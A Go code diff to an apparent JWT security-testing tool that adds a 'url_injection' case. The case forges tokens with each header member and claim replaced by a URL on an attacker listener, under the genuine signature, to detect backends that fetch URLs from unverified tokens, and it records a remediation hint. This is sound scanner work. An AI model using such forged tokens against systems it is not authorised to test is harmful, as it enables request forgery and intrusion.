@@ -25,6 +25,7 @@ import (
 	"hash"
 	"io"
 	"maps"
+	"net/url"
 	"slices"
 	"strconv"
 	"strings"
@@ -65,6 +66,7 @@ const (
 	CaseJKU                       = "jku_header"
 	CaseX5U                       = "x5u_header"
 	CaseIssDiscovery              = "iss_discovery"
+	CaseURLInjection              = "url_injection"
 	CasePsychicSignature          = "psychic_signature"
 	CaseAlgOtherFamily            = "alg_other_family"
 	CaseClaimTypes                = "claim_type_confusion"
@@ -556,7 +558,11 @@ func (f *forger) attackerCases(a *Attacker, keyErr error, url, skip string) erro
 			c.NotTested, c.EnabledBy = keyErr.Error(), ""
 			f.add(c)
 		}
-		return nil
+		if url == "" {
+			f.add(Case{Name: CaseURLInjection, Check: CheckTokenKeys, NotTested: skip, EnabledBy: "--attacker-url"})
+			return nil
+		}
+		return f.urlInjection(strings.TrimSuffix(url, "/"))
 	}
 	var err error
 	if emb.Token, err = a.sign(f.tok.Header, map[string]any{"jwk": a.PublicJWK()}, f.payloadSeg); err != nil {
@@ -574,6 +580,8 @@ func (f *forger) attackerCases(a *Attacker, keyErr error, url, skip string) erro
 			c.NotTested = skip
 			f.add(c)
 		}
+		f.add(Case{Name: CaseURLInjection, Check: CheckTokenKeys, NotTested: skip, EnabledBy: "--attacker-url",
+			Attack: "each header member and claim in turn set to a URL of the attacker listener: a request there means the backend fetches URLs it reads from the token"})
 		return nil
 	}
 	base := strings.TrimSuffix(url, "/")
@@ -596,6 +604,37 @@ func (f *forger) attackerCases(a *Attacker, keyErr error, url, skip string) erro
 		c.tr = traits{forged: true}
 		f.add(c)
 	}
+	return f.urlInjection(base)
+}
+
+// urlInjection: every header member and claim in turn set to a URL of the
+// attacker listener, under the genuine signature (jwt_tool's "external
+// interactions"): a request there means the backend fetches a URL it
+// read from the token (an avatar from "image", say) before or without
+// verifying it.
+func (f *forger) urlInjection(base string) error {
+	c := Case{Name: CaseURLInjection, Check: CheckTokenKeys,
+		Fix:    "never fetch a URL read from a token before it is verified, and then only from an allow-list",
+		Attack: "each header member and claim in turn set to a URL of the attacker listener, under the genuine signature: a request there means the backend fetches URLs it reads from the token"}
+	for _, part := range []struct {
+		name string
+		obj  verify.Object
+	}{{"header", f.tok.Header}, {"claim", f.tok.Claims}} {
+		for _, name := range part.obj.Keys {
+			u := fmt.Sprintf("%s%s/%s-%s", base, PathURLInjection, part.name, url.PathEscape(name))
+			set, err := setMembers(part.obj, map[string]any{name: u})
+			if err != nil {
+				return err
+			}
+			tok := enc(set) + "." + f.payloadSeg + "." + enc(f.tok.Signature)
+			if part.name == "claim" {
+				tok = f.headerSeg + "." + enc(set) + "." + enc(f.tok.Signature)
+			}
+			c.Variants = append(c.Variants, Variant{Label: part.name + " " + strconv.Quote(name), Token: tok,
+				tr: traits{forged: true, foreignKid: part.name == "header" && name == "kid"}})
+		}
+	}
+	f.add(c)
 	return nil
 }
 
@@ -694,8 +733,9 @@ func (f *forger) typeConfusion(random io.Reader) error {
 		if err != nil {
 			return err
 		}
+		_, kidSet := v.set["kid"]
 		header.Variants = append(header.Variants, Variant{Label: v.label, Token: enc(h) + "." + f.payloadSeg + "." + enc(f.tok.Signature),
-			tr: traits{forged: true}})
+			tr: traits{forged: true, foreignKid: kidSet}})
 	}
 	f.add(header)
 	return nil
